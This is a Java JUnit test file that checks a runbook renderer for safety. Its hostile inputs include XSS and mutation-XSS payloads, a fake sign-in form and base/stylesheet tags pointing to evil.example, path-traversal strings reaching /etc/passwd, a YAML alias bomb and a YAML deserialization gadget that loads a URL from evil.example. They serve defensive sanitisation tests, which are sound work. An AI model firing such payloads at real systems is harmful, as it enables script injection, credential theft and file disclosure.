package dev.vigia.runbooks;

import static dev.vigia.runbooks.RunbookFixtures.document;
import static dev.vigia.runbooks.RunbookFixtures.render;
import static dev.vigia.runbooks.RunbookFixtures.shelf;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigia.runbooks.Block.Details;
import dev.vigia.runbooks.Block.Html;
import dev.vigia.runbooks.Block.Step;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Whoever may write a runbook, or a label, must not be able to write a page.
class HostileRunbookTest {

    private static final Set<String> ATTRIBUTES =
            Set.of("id", "href", "title", "target", "rel", "router-link", "data-here", "start", "align", "open");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
                "<script>alert(1)</script>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"&#1;javascript:alert(1)\">x</a>",
                "<a href=\" java\tscript:alert(1)\">x</a>",
                "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)",
                "[x](<\u0001javascript:alert(1)>)",
                "<javascript:alert(1)>",
                "![x](https://evil.example/pixel.png)",
                "<div style=\"position:fixed;inset:0\" class=shell onclick=alert(1)>x</div>",
                "<details ontoggle=alert(1) open><summary onclick=alert(1)>s<img src=x onerror=alert(1)></summary>\n\nx\n\n</details>",
                "- [ ] <img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1))",
                "| <img src=x onerror=alert(1)> |\n| --- |\n| <svg/onload=alert(1)> |",
                "# <img src=x onerror=alert(1)>",
                "<base href=https://evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
                "<template><img src=x onerror=alert(1)></template><object data=x></object><embed src=x>",
                "{{label}} <p title=\"{{label}}\">x</p> [x](https://example.com/{{label}}) [y]({{label}})",
            })
    void letsNothingThroughThatRunsLoadsOrCovers(String markdown) {
        var blocks = render(markdown, Map.of("label", "\"'><img src=x onerror=alert(1)>javascript:alert(1)"));

        // As a browser would read it, once more, after all mutations that the parser may do.
        for (var html : pieces(blocks).toList()) {
            var page = Jsoup.parseBodyFragment(html);
            assertThat(page.select(
                            "script,img,svg,math,iframe,style,form,input,button,base,link,meta,object,embed,template"))
                    .isEmpty();
            for (var element : page.body().getAllElements()) {
                assertThat(element.attributes().asList().stream()
                                .map(attribute -> attribute.getKey())
                                .collect(Collectors.toSet()))
                        .isSubsetOf(ATTRIBUTES);
                assertThat(element.attr("href")).matches("(https?://.*|runbooks.*)?");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../secret.md",
                "../../etc/passwd",
                "%2e%2e/secret.md",
                "%252e%252e/secret.md",
                "..;/secret.md",
                "/../secret.md",
                "..\\secret.md",
                "a/../../secret.md",
                "secret.md\0",
                "file:///etc/passwd",
                "//evil.example/x",
                "https://user@evil.example/",
            })
    void leadsNoLinkOutOfTheLibrary(String address) {
        var inside = document("folder/inside.md", "# Inside\n");

        assertThat(LinkTarget.of(address, document("tested.md", ""), shelf(inside)))
                .isInstanceOf(LinkTarget.Nowhere.class);
    }

    @Test
    void refusesABombInTheFrontMatterAndShowsTheRest() {
        var bomb =
                "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b]\n---\n# Title\n";
        for (var text : List.of(
                bomb,
                "---\n!!javax.script.ScriptEngineManager [!!java.net.URL [http://evil.example/]]\n---\n# Title\n",
                "---\na: " + "[".repeat(8000) + "\n---\n# Title\n",
                "---\na: 1\na: 2\n---\n# Title\n",
                "---\na: " + "x".repeat(20_000) + "\n---\n# Title\n",
                "---\n? &a [*a]\n: 1\n---\n# Title\n")) {
            var document = document("tested.md", text);

            assertThat(document.front().mistake()).as(text.substring(0, 20)).isNotNull();
            assertThat(document.runbook().title()).isEqualTo("Title");
        }
    }

    @Test
    void showsAsWrittenWhatIsNestedBeyondSense() {
        for (var text : List.of(
                ">".repeat(50_000) + " x",
                "*a **b ".repeat(20_000),
                "[".repeat(50_000),
                "<details>\n\n".repeat(5_000),
                "- ".repeat(20_000) + "x",
                "<b>".repeat(20_000))) {
            assertThat(render(text)).isNotNull();
        }
    }

    private static Stream<String> pieces(List<Block> blocks) {
        return blocks.stream().flatMap(block -> switch (block) {
            case Html(var html) -> Stream.of(html);
            case Step step -> Stream.of(step.html());
            case Details details -> Stream.concat(Stream.of(details.summaryHtml()), pieces(details.blocks()));
            case Block.Code _ -> Stream.of();
            case Block.Fact _ -> Stream.of();
        });
    }
}
